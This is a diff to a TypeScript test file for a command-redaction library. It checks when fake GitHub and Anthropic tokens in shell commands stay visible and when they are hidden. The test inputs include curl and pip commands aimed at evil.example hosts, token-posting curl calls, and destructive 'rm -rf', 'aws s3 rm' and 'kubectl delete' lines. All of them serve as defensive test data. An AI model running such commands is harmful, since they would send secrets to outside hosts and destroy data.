@@ -2,7 +2,7 @@ import assert from "node:assert/strict";
 import { test } from "node:test";
 import { type Classification, classify, NO_MACHINE } from "@countersign/policy";
 import fc from "fast-check";
-import { redactCommand, redaction, redactSentence } from "./redact-command.ts";
+import { redactAround, redactCommand, redaction, redactSentence } from "./redact-command.ts";
 
 const ANT = `sk-ant-api03-${"aB3_-".repeat(5)}`;
 const GITHUB = `ghp_${"aB3d".repeat(9)}`;
@@ -59,9 +59,44 @@ test("what an effect is about is never hidden, and spans stay on what they marke
   assert.ok(marked.length > 0 && marked.every((piece) => piece.endsWith("/srv/data")), marked.join());
 });
 
+test("for the one who decides, files, machines and names of things stay readable; in the record they don't", () => {
+  const long = `u${"x".repeat(300)}`;
+  for (const command of [
+    `curl https://${GITHUB}.evil.example/x`,
+    `curl https://${long}:p@${GITHUB}.évil.example/x`,
+    `curl --proxy https://${GITHUB}.evil.example https://example.org`,
+    `pip install --index-url https://me@${GITHUB}.evil.example x`,
+    `scp a ${GITHUB}:b`,
+    `cat ${GITHUB}`,
+    `rm -rf a/${GITHUB}/b`,
+    `dd if=x of=token=${GITHUB}`,
+    `npm install ${GITHUB}`,
+    `kubectl delete pod '${GITHUB}'`,
+    `aws s3 rm s3://${GITHUB}/x`,
+  ]) {
+    assert.ok(redaction(command, read(command).effects).text.includes(GITHUB), command);
+    assert.ok(!redactCommand(command).includes(GITHUB), command);
+  }
+  for (const command of [
+    `curl -H 'Authorization: token ${GITHUB}' https://example.org`,
+    `curl -d token=${GITHUB} https://example.org`,
+    `curl https://example.org/${GITHUB}?x`,
+    `git push https://${GITHUB}@github.com/a/b main`,
+    `git clone https://me:${GITHUB}@github.com/a/b`,
+    `npm publish --otp ${GITHUB}`,
+    `docker login -p ${GITHUB} registry.example`,
+    `deploy ${GITHUB}`,
+    `echo ${GITHUB} | deploy`,
+  ]) {
+    assert.ok(!redaction(command, read(command).effects).text.includes(GITHUB), command);
+  }
+});
+
 test("a sentence shows what a command would show", () => {
   assert.equal(redactSentence("Sets OPENAI_API_KEY=$(rm x)"), "Sets OPENAI_API_KEY=$(rm x)");
   assert.equal(redactSentence(`Reads ${GITHUB}.`), `Reads ${hidden(41)}`.replace("41", "40").concat("."));
+  const sentence = `Sends ${ANT} to ${GITHUB}.example`;
+  assert.equal(redactAround(sentence, [`${GITHUB}.example`]), `Sends ${hidden(ANT.length)} to ${GITHUB}.example`);
 });
 
 test("no character that bash gives a meaning ever disappears", () => {
